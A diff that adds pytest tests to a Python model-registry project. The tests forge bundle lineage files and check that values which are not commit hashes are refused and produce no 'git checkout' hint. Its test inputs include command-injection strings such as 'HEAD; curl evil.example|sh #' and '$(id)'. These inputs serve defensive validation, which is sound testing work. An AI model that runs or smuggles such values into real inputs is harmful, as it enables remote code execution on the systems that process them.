@@ -1,5 +1,6 @@
 """What a file or a registry says of its origin: shown only in its form, and never run."""
 
+import hashlib
 import io
 import json
 from pathlib import Path
@@ -11,11 +12,15 @@ from PIL import Image, PngImagePlugin
 from rich.console import Console
 
 from tests.mlflow_stores import empty_store
+from tests.unit.registry.test_bundle import contents
 from vivero.cli.lineage_tree import lineage_tree
+from vivero.config.schema import Config
 from vivero.data.made_images import MadeImages, read_batch
 from vivero.errors import BundleError, DataError, TrackingError
 from vivero.evaluation.grids import save_image
 from vivero.files import write_json
+from vivero.registry.bundle import load_bundle, write_bundle
+from vivero.registry.lineage_target import Target
 from vivero.registry.lineage_trace import Trace, trace
 from vivero.registry.monitor_memory import read_memory
 from vivero.registry.moves import EVENT_TAG, history
@@ -290,3 +295,71 @@ def test_a_move_that_is_not_of_its_form_is_named(root: Path, text: str):
     open_client(root).set_registered_model_tag("vivero", f"{EVENT_TAG}000001", text)
     with pytest.raises(TrackingError, match=r"unreadable record: the tag vivero\.event\.000001"):
         history(root, "vivero")
+
+
+@pytest.fixture(scope="module")
+def bundle_dir(tmp_path_factory: pytest.TempPathFactory, tiny_config: Config) -> Path:
+    bundle_dir = tmp_path_factory.mktemp("from a stranger") / "bundle"
+    write_bundle(bundle_dir, contents(tiny_config))
+    return bundle_dir
+
+
+def forge_lineage(bundle_dir: Path, text: str) -> None:
+    """Put a lineage into a bundle as its author can: the manifest fits."""
+    (bundle_dir / "lineage.json").write_text(text, encoding="utf-8")
+    manifest = json.loads((bundle_dir / "manifest.json").read_text())
+    manifest["files"]["lineage.json"] = hashlib.sha256(text.encode()).hexdigest()
+    (bundle_dir / "manifest.json").write_text(json.dumps(manifest))
+
+
+COMMANDS = ["HEAD; curl evil.example|sh #", "HEAD", "c" * 39, "C" * 40, f"{'c' * 40}\n", "$(id)"]
+
+
+@pytest.mark.parametrize("commit", COMMANDS)
+def test_a_bundle_whose_commit_is_no_hash_is_refused_by_name(bundle_dir: Path, commit: str):
+    forge_lineage(bundle_dir, json.dumps({**LINEAGE, "code_commit": commit}))
+    with pytest.raises(BundleError, match=r"lineage\.json: unreadable record: code_commit: "):
+        trace(str(bundle_dir), None)
+
+
+@pytest.mark.parametrize("name", [*LINEAGE])
+def test_a_hostile_field_of_a_bundle_is_unreadable(bundle_dir: Path, name: str):
+    for value in HOSTILE:
+        if f"lineage.{name}" in FREE_TEXT and isinstance(value, str) and value.startswith("-"):
+            continue  # is text there like any other
+        forge_lineage(bundle_dir, json.dumps({**LINEAGE, name: value}))
+        with pytest.raises(BundleError, match=rf"unreadable record: .*{name}") as caught:
+            load_bundle(bundle_dir)
+        assert_harmless(str(caught.value))
+        assert len(str(caught.value)) < 2000
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [("[]", "unreadable record"), ("3", "unreadable record"), ("{", "Expecting"),
+     ("[" * 200_000, "nested too deeply"),
+     (json.dumps({"seed": 0, "x": "y" * 1_000_000}), "expected at most 1000000 bytes")],
+    ids=["list", "number", "cut off", "deep", "large"],
+)  # fmt: skip
+def test_the_lineage_of_a_bundle_in_another_form_is_refused(
+    bundle_dir: Path, text: str, reason: str
+):
+    forge_lineage(bundle_dir, text)
+    with pytest.raises(BundleError, match=rf"lineage\.json: .*{reason}"):
+        load_bundle(bundle_dir)
+
+
+def test_a_bundle_shows_the_weights_that_it_holds(bundle_dir: Path):
+    forge_lineage(bundle_dir, json.dumps(LINEAGE))
+    found = trace(str(bundle_dir), None)
+    assert found.target.lineage["weights_sha256"] == load_bundle(bundle_dir).weights_sha256
+    assert f"to go back: git checkout {LINEAGE['code_commit']} && dvc repro" in printed(found)
+
+
+@pytest.mark.parametrize("commit", COMMANDS)
+def test_the_tree_offers_no_command_for_what_is_no_hash(commit: str):
+    lineage = {**LINEAGE, "code_commit": commit}
+    target = Target("bundle", "x", "weights_sha256", WEIGHTS, lineage)
+    text = printed(Trace(target, [], [], [], [], [], {}, []))
+    assert "git checkout" not in text
+    assert "no complete hash of a commit" in text
